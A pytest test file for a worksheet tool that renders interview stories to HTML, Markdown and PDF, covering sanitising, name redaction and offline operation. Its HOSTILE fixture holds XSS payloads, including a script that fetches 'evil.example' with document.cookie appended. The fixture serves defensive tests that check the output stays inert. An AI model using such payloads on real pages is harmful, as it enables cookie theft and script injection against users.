import socket
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from fairlead.app.cli.main import run
from fairlead.errors import FairleadError
from fairlead.worksheet.output.document import Document, Layout, Mark, Paragraph, Span, paragraph
from fairlead.worksheet.output.html_file import write_html
from fairlead.worksheet.output.markdown_file import write_markdown
from fairlead.worksheet.output.pages import cards_page, stories_page
from fairlead.worksheet.output.pdf_file import write_pdf
from fairlead.worksheet.output.prose import read_prose
from fairlead.worksheet.output.redaction import PUT_INSTEAD, redact
from worksheet.making_stories import story, worksheet, write_folder

HOSTILE = """---
title: "<script>alert(1)</script> & \\"friends\\""
principles: [ownership, "<img src=x onerror=alert(2)>"]
---
## Situation
<script>fetch('http://evil.example/' + document.cookie)</script> and <b onclick="x()">bold</b>.

![pixel](http://evil.example/p.png) [click](javascript:alert(3)) [data](data:text/html,x)
[fine](https://example.org/a?b=c&d="e")

<iframe src="//evil.example"></iframe>
## Action
- `</code><script>alert(4)</script>`
- #panic("typst") $ x $ *bold* @ref <label> \\u{41} //comment

```
</pre><script>alert(5)</script>
```
## <svg onload=alert(6)>
Own section.
## Notes
never to be printed: the offer is 200
"""
STAR = """---
title: Search
principles: [ownership]
---
## Situation
Searching 700,000 logs took **8 seconds** at peak. Users complained.
## Task
Get it under two seconds.
## Action
- **Measured it:** I traced each request.
- I moved the logs to an index.
## Result
It fell to 400 milliseconds, 95 % less, within 6 months.
## Follow-ups
1. Why not a cache?
## Notes
salary
"""


class Elements(HTMLParser):
    """Collects every element and attribute of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}


def document(text: str) -> Document:
    one = story(text)
    return stories_page(worksheet(one), [one], {})


def plain(text: str) -> Document:
    return Document(title="T", about="", blocks=(paragraph(text),))


def test_html_runs_nothing_and_asks_nobody() -> None:
    elements = Elements(write_html(document(HOSTILE)))

    assert not elements.tags & {"script", "img", "iframe", "svg", "b", "object", "link", "label"}
    assert not [name for name, _ in elements.attributes if name.startswith("on") or name == "src"]
    addresses = {value for name, value in elements.attributes if name == "href"}
    assert addresses == {"https://example.org/a?b=c&d=%22e%22"}
    policy = next(value for _, value in elements.attributes if "default-src" in value)
    assert policy.startswith("default-src 'none'")


def test_markdown_renders_to_a_page_without_foreign_elements() -> None:
    rendered = (
        MarkdownIt("commonmark", {"html": True})
        .enable("table")
        .render(write_markdown(document(HOSTILE)))
    )

    elements = Elements(rendered)
    assert not elements.tags & {"script", "img", "iframe", "svg", "b", "label"}
    assert "&lt;script&gt;fetch('http://evil.example/'" in rendered


def test_pdf_takes_markup_of_its_own_language_as_text() -> None:
    pdf = write_pdf(document(HOSTILE))

    assert pdf.startswith(b"%PDF-")


@settings(max_examples=40, deadline=None)
@given(
    st.lists(
        st.text(st.characters(min_codepoint=32, max_codepoint=126), min_size=1, max_size=30).map(
            lambda text: " ".join(text.split())
        ),
        min_size=1,
        max_size=3,
    )
)
def test_text_that_looks_like_markdown_survives_markdown(texts: list[str]) -> None:
    blocks = tuple(paragraph(text) for text in texts if text)

    written = write_markdown(Document(title="T", about="", blocks=blocks))

    read = read_prose(written)[1:]
    paragraphs = [one for one in read if isinstance(one, Paragraph)]
    assert len(paragraphs) == len(read)
    assert ["".join(span.text for span in one.spans) for one in paragraphs] == list(filter(None, texts))


@settings(max_examples=40, deadline=None)
@given(st.text(max_size=60))
def test_any_text_is_read_and_written_without_an_element_of_its_own(text: str) -> None:
    blocks = read_prose(text)

    page = write_html(Document(title=text, about=text, blocks=blocks))

    assert not Elements(page).tags & {"script", "img", "iframe", "object", "embed"}


def test_notes_are_never_printed_and_everything_else_is() -> None:
    page = write_markdown(document(STAR))

    assert "salary" not in page
    for words in ("Situation", "**8 seconds**", "**Measured it:** I traced", "Why not a cache?"):
        assert words in page


def test_a_cue_card_holds_openings_steps_and_figures_instead_of_the_text() -> None:
    one = story(STAR)

    page = write_markdown(cards_page(worksheet(one), [one]))

    assert "Searching 700,000 logs took 8 seconds at peak." in page
    assert "Users complained" not in page
    assert "- Measured it\n- I moved the logs to an index." in page
    assert "**400 milliseconds · 95 % · 6 months**" in page
    assert "- Why not a cache?" in page


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("Acme Corp paid.", f"{PUT_INSTEAD} paid."),
        ("at ACME-CORP's office", f"at {PUT_INSTEAD}'s office"),
        ("acmecorp.com", f"{PUT_INSTEAD}.com"),
        ("jo@acme_corp", f"jo@{PUT_INSTEAD}"),
        ("Ac\u00admé", "Acmé"),
        ("the acme of skill", "the acme of skill"),
        ("Acmecorporation", "Acmecorporation"),
        ("Ze\u0301lie said", f"{PUT_INSTEAD} said"),
        ("ZÉLIE", PUT_INSTEAD),
        ("我在字節跳動工作", f"我在{PUT_INSTEAD}工作"),
        ("A\u200bcme Corp", PUT_INSTEAD),
    ],
)
def test_a_confidential_name_is_taken_out_however_it_is_spelled(text: str, left: str) -> None:
    redacted = redact(plain(text), ["Acme Corp", "Zélie", "字節跳動"])

    assert redacted.document == plain(left)
    assert redacted.places == (PUT_INSTEAD in left)


def test_a_name_is_found_across_bold_links_titles_code_and_addresses() -> None:
    text = (
        "---\ntitle: At Acme Corp\nprinciples: [acme corp]\n---\n## Action\n"
        "**Acme** Corp and [Acme](https://acme-corp.example/x) *Corp* and `acme corp`\n\n"
        "| Acme Corp | b |\n| --- | --- |\n| 1 | Acme Corp |\n\n> Acme\n> Corp\n\n```\nacme corp\n```\n"
        "## Acme Corp\n1. Acme Corp\n"
    )

    redacted = redact(document(text), ["Acme Corp"])

    for written in (write_markdown(redacted.document), write_html(redacted.document)):
        assert "acme" not in written.casefold()
        assert "corp" not in written.casefold()
    assert redacted.places >= 11


def test_without_names_nothing_is_touched() -> None:
    before = document(STAR)

    assert redact(before, ["", "  "]).document == before


def test_a_missing_glyph_is_an_error_that_names_the_characters() -> None:
    signs = "\U000f1234\U000f1235"

    with pytest.raises(FairleadError) as raised:
        write_pdf(plain(f"a{signs[0]}b{signs[1]}c"))

    assert "U+F1235" in raised.value.cause
    assert "U+F1234" in raised.value.cause
    assert "--fonts" in raised.value.fix


def test_a_pdf_is_tagged_and_takes_hebrew_cyrillic_and_signs() -> None:
    pdf = write_pdf(plain("שלום עולם, привет, ½ ≤ 3 µs — “quoted” … ● ○ ✗"))

    assert b"/StructTreeRoot" in pdf
    assert b"pdfuaid" in pdf


def test_a_brief_that_does_not_fit_one_page_is_refused() -> None:
    with pytest.raises(FairleadError, match="too much for one page"):
        write_pdf(
            Document(
                title="T",
                about="",
                blocks=tuple(paragraph("word " * 120) for _ in range(60)),
                layout=Layout.ONE_PAGE,
            )
        )


def test_a_brief_that_fits_has_one_page() -> None:
    blocks = tuple(paragraph("word " * 60) for _ in range(12))

    pdf = write_pdf(Document(title="T", about="", blocks=blocks, layout=Layout.ONE_PAGE))

    assert b"/Count 1" in pdf


def test_without_typst_the_error_names_the_command(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(__import__("sys").modules, "typst", None)

    with pytest.raises(FairleadError) as raised:
        write_pdf(plain("x"))

    assert "pip install 'fairlead[pdf]'" in raised.value.fix


def test_deeply_nested_markdown_is_read_without_falling_over() -> None:
    blocks = read_prose("> " * 5000 + "deep\n\n" + "".join(" " * 2 * i + "- x\n" for i in range(500)))

    assert write_html(Document(title="T", about="", blocks=blocks))
    assert write_markdown(Document(title="T", about="", blocks=blocks))


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return write_folder(tmp_path, {"stories/search.md": STAR, "confidential.txt": "# names\nUsers\n"})


@pytest.mark.parametrize("what", ["stories", "brief", "cards"])
@pytest.mark.parametrize("ending", ["md", "html", "pdf"])
def test_the_command_writes_each_page_in_each_format_without_the_names(
    folder: Path, capsys: pytest.CaptureFixture[str], what: str, ending: str
) -> None:
    code = run(["worksheet", "print", "--what", what, "--to", f"out.{ending}", "search"])

    assert code == 0
    assert "wrote out." in capsys.readouterr().err
    assert b"Users complained" not in (folder / f"out.{ending}").read_bytes()


def test_names_stay_where_the_user_asks_for_it(folder: Path) -> None:
    run(["worksheet", "print", "--to", "out.md", "--keep-names"])

    assert "Users complained" in (folder / "out.md").read_text()


@pytest.mark.parametrize("ending", ["md", "html", "pdf"])
def test_plan_and_coverage_have_pages_too(
    folder: Path, capsys: pytest.CaptureFixture[str], ending: str
) -> None:
    run(["worksheet", "plan", "--with", "Ana: Ownership, Dive Deep", "--page", f"plan.{ending}"])
    run(["worksheet", "coverage", "--page", f"coverage.{ending}"])

    assert (folder / f"plan.{ending}").stat().st_size > 200
    assert (folder / f"coverage.{ending}").stat().st_size > 500
    if ending == "html":
        assert "nothing yet" in (folder / "plan.html").read_text()


@pytest.mark.parametrize(
    ("to", "cause"),
    [("out.docx", "doesn't say which format"), ("no/where.md", "could not be written")],
)
def test_a_page_that_cannot_be_written_says_why(
    folder: Path, capsys: pytest.CaptureFixture[str], to: str, cause: str
) -> None:
    code = run(["worksheet", "print", "--to", to])

    assert code == 2
    assert cause in capsys.readouterr().err


def test_a_full_disk_leaves_the_old_page_and_nothing_else(
    folder: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    (folder / "out.md").write_text("old")
    before = sorted(path.name for path in folder.iterdir())

    def full(descriptor: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("os.fsync", full)

    code = run(["worksheet", "print", "--to", "out.md"])

    assert code == 2
    assert "No space left on device" in capsys.readouterr().err
    assert (folder / "out.md").read_text() == "old"
    assert sorted(path.name for path in folder.iterdir()) == before


def test_nothing_leaves_the_machine(
    folder: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*arguments: object, **named: object) -> None:
        raise AssertionError("a socket was opened")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    (folder / "m.csv").write_text("metric,value\ncpu,1\n")

    codes = [
        run(words)
        for words in (
            ["worksheet", "coverage"],
            ["worksheet", "ask", "a slow search"],
            ["worksheet", "plan", "--with", "Ana: Ownership", "--page", "plan.pdf"],
            ["worksheet", "evidence"],
            ["worksheet", "print", "--to", "all.html"],
            ["worksheet", "print", "--to", "all.pdf"],
            ["measurements", "import", "m.csv"],
            ["measurements", "list"],
        )
    ]

    assert codes == [0] * 8


def test_a_paragraph_that_starts_from_the_right_is_set_from_the_right() -> None:
    page = write_html(Document(title="T", about="", blocks=(paragraph("שלום"),)))

    assert '<p dir="auto">שלום</p>' in page


def test_a_soft_mark_is_shown_by_a_word_as_well_as_a_colour() -> None:
    spans = (Span(text="✗ 0", mark=Mark.GAP),)

    page = write_html(Document(title="T", about="", blocks=(Paragraph(spans=spans),)))

    assert 'title="missing">✗ 0</span>' in page
